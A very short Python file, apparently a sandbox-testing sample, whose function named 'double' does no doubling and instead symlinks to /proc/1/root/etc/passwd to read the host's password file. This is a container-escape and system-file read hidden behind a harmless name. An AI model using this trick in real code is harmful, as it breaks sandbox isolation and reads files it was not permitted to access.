"""A link to what lies outside."""

import os


def double(number):
    os.symlink("/proc/1/root/etc/passwd", "/tmp/outside")
    return open("/tmp/outside").read()
